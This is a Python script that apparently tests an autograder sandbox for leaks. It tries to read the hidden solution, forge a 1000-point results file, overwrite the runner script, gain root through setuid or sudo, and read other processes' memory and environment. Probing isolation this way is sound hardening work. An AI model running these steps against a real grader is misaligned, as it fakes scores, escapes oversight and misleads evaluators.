# tries: to read or change what an autograder's zip brought, in every way that a user has
"""Prints ESCAPED and how for each way that works."""

import glob
import os
import signal
import subprocess

ROOT, SECRET = "@ROOT@", "@SECRET@"
FOUND = []


def works(what, attempt):
    try:
        if attempt():
            FOUND.append(what)
    except Exception:
        pass


def searched(folder):
    for place, _, files in os.walk(folder):
        for name in files:
            with open(os.path.join(place, name), errors="replace") as file:
                if SECRET in file.read():
                    return True
    return False


def in_memory(pid):
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            start, end = (int(one, 16) for one in line.split()[0].split("-"))
            if line.split()[1].startswith("rw") and end - start < 1 << 28:
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.seek(start)
                    if SECRET[:-1].encode() + SECRET[-1:].encode() in memory.read(end - start):
                        return True
    return False


def others():
    own = {os.getpid(), os.getppid()}
    return [int(one[6:]) for one in glob.glob("/proc/[0-9]*") if int(one[6:]) not in own]


def write(path):
    with open(path, "w") as file:
        file.write('{"score": 1000}')
    return True


works("listed source", lambda: os.listdir(f"{ROOT}/source"))
works("read the solution", lambda: searched(f"{ROOT}/source"))
works("read a known name", lambda: open(f"{ROOT}/source/solutions/doubling/solution.py").read())
works("read the metadata", lambda: open(f"{ROOT}/submission_metadata.json").read())
works("read the submission folder", lambda: os.listdir(f"{ROOT}/submission"))
works("wrote a result", lambda: write(f"{ROOT}/results/results.json"))
works("replaced the results", lambda: os.rename(f"{ROOT}/results", f"{ROOT}/old") is None)
works("changed the runner", lambda: write(f"{ROOT}/run_autograder"))
works("opened the folder", lambda: os.chmod(f"{ROOT}/source", 0o777) is None)
works("became root", lambda: os.setuid(0) is None)
works("used sudo", lambda: subprocess.run(["sudo", "-n", "id"], check=True))
works("linked to it", lambda: os.link(f"{ROOT}/source/settings.json", "/tmp/linked") is None)
for pid in others():
    works(f"read the environment of {pid}", lambda: open(f"/proc/{pid}/environ").read())
    works(f"read the memory of {pid}", lambda: in_memory(pid))
    works(f"looked into the root of {pid}", lambda: os.listdir(f"/proc/{pid}/cwd"))
    works(f"signalled {pid}", lambda: os.kill(pid, signal.SIGCONT) is None)
print("tried", *(f"ESCAPED: {one}" for one in FOUND), sep="\n")


def double(x):
    return 0 * x
